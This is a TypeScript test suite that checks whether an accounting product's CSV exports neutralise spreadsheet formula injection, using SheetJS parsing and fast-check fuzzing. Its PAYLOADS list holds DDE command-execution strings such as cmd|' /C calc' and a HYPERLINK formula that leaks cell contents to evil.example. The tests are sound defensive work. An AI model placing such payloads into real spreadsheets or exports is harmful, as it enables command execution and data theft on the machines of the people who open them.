import * as XLSX from '@e965/xlsx';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, toCsv } from '#statement/csv.ts';
import { renderJournalCsv, renderQuickBooksJournalCsv } from '#statement/journal.ts';
import { renderStatementCsv, STATEMENT_TABLES } from '#statement/tables.ts';
import type { StatementView } from '#statement/view.ts';
import { Tally } from '../../reliability/support/summary.ts';
import { loadView } from './fixture.ts';

/**
 * CSV injection: every CSV the product writes is opened the way spreadsheets open it — SheetJS
 * reading it with the comma (as written), with the semicolon and the tab of other locales, and a
 * naive split on every separator that ignores quotes — and no cell is a formula or starts like one.
 */

const tally = new Tally('csv-injection');
afterAll(() => tally.flush());

/** What a spreadsheet runs as a formula (or DDE) at the start of a cell, after blanks. */
const LOOKS_LIKE_FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?(?:\d+(?:\.\d+)?|\.\d+)$/;

/** Cells that a reader would run: SheetJS formula cells, or text starting like a formula. */
function formulasIn(csv: string): string[] {
  const found: string[] = [];
  for (const FS of [',', ';', '\t']) {
    const book = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', FS, cellFormula: true });
    for (const name of book.SheetNames) {
      const sheet = book.Sheets[name] ?? {};
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        if (c.f !== undefined) found.push(`${FS} ${address} formula ${c.f}`);
        else if (c.t === 's' && LOOKS_LIKE_FORMULA.test(String(c.v)) && !NUMBER.test(String(c.v).trim()))
          found.push(`${FS} ${address} text ${JSON.stringify(c.v)}`);
      }
    }
  }
  // The worst reader: splits lines and cells on every separator, quotes or not.
  for (const piece of csv.split(/[\r\n,;\t]/)) {
    const cell = piece.replace(/^"+/, '');
    if (LOOKS_LIKE_FORMULA.test(cell) && !NUMBER.test(cell.trim()))
      found.push(`naive split: ${JSON.stringify(piece)}`);
  }
  return found;
}

/** Text cells as SheetJS reads the comma CSV, row by row. */
function cellsOf(csv: string): string[][] {
  const book = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', raw: true });
  const sheet = book.Sheets[book.SheetNames[0] ?? ''];
  if (!sheet) return [];
  return XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' });
}

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  'Travel;=1+1',
  'Travel,=1+1',
  'Hotel\n-2+3',
  'a";=1+1;"b',
  '"=1+1"',
  "'=1+1",
];

const hostile = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc
    .tuple(
      fc.string({ maxLength: 6 }),
      fc.constantFrom('', ',', ';', '\t', '\r\n', '\n', '"', ' ', ';"'),
      fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r'),
      fc.string({ maxLength: 12 }),
    )
    .map(([a, sep, trigger, b]) => `${a}${sep}${trigger}${b}`),
  fc.string({ minLength: 1, maxLength: 20 }),
);
const text = hostile.filter((s) => s.length > 0);

/** The fixture statement with hostile text in every text field a charter or a record fills. */
function hostileView(t: string[]): StatementView {
  const base = loadView();
  const at = (i: number) => t[i % t.length] ?? 'x';
  // Lines of one entry keep one (hostile) entry name, so the journal still balances per entry.
  const entries = [...new Set(base.journal.map((line) => line.entry))];
  return {
    ...base,
    number: at(0),
    project: { ...base.project, name: at(1) },
    counterparty: { ...base.counterparty, name: at(2) },
    lines: base.lines.map((line, i) => ({
      ...line,
      description: at(3 + i),
      ...(line.role ? { role: at(4 + i) } : {}),
      ...(line.unit ? { unit: at(5 + i) } : {}),
    })),
    variance: base.variance.map((row, i) => ({
      ...row,
      dimension: at(6 + i),
      key: at(7 + i),
      cause: at(8 + i),
    })),
    billing: base.billing.map((line, i) => ({
      ...line,
      description: at(9 + i),
      basis: at(10 + i),
      reason: at(11 + i),
    })),
    journal: base.journal.map((line, i) => ({
      ...line,
      ...(line.entry === undefined ? {} : { entry: at(12 + entries.indexOf(line.entry)) }),
      account: at(13 + i),
      accountName: at(14 + i),
      memo: at(15 + i),
      project: at(16 + i),
      party: at(17 + i),
    })),
  };
}

describe('formula neutralisation', () => {
  it.each(PAYLOADS)('writes %j so that no spreadsheet reading finds a formula', (payload) => {
    const csv = toCsv([
      ['name', 'amount'],
      [payload, '-12.50'],
    ]);
    const found = formulasIn(csv);
    tally.check('exports', found.length === 0, `${JSON.stringify(payload)}: ${found.join('; ')}`);
    expect(found).toEqual([]);
  });

  it('keeps plain decimal numbers, negative ones too, as numbers', () => {
    for (const n of ['-12.50', '0', '1234.5678', '-.5']) expect(csvField(n)).toBe(n);
    const book = XLSX.read(toCsv([['-12.50']]).slice(1), { type: 'string' });
    expect(book.Sheets[book.SheetNames[0] ?? '']?.A1?.v).toBe(-12.5);
  });

  it('shows the text itself behind one apostrophe, so nothing is lost', () => {
    expect(neutraliseFormula("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(neutraliseFormula('Travel;=1+1')).toBe("Travel;'=1+1");
    expect(cellsOf(toCsv([['a;=1+1', 'b"c', 'Berlin, Hamburg']]))[0]).toEqual([
      "a;'=1+1",
      'b"c',
      'Berlin, Hamburg',
    ]);
  });

  it('writes hostile charter names and record fields into the statement and journal CSVs (QuickBooks layout too) without a formula', () => {
    let runs = 0;
    let failures = 0;
    fc.assert(
      fc.property(fc.array(text, { minLength: 4, maxLength: 24 }), (values) => {
        runs += 1;
        const view = hostileView(values);
        const documents = [
          ...STATEMENT_TABLES.map((table) => renderStatementCsv(view, table)),
          renderJournalCsv(view),
          renderQuickBooksJournalCsv(view),
        ];
        for (const csv of documents) {
          const found = formulasIn(csv);
          if (found.length > 0) failures += 1;
          expect(found).toEqual([]);
        }
        // Every row of the lines table is still one row with all its cells.
        const rows = cellsOf(renderStatementCsv(view, 'lines'));
        expect(rows).toHaveLength(view.lines.length + 1);
      }),
      { numRuns: 150, seed: 19 },
    );
    tally.cases('exports', runs);
    expect(failures).toBe(0);
  });
});
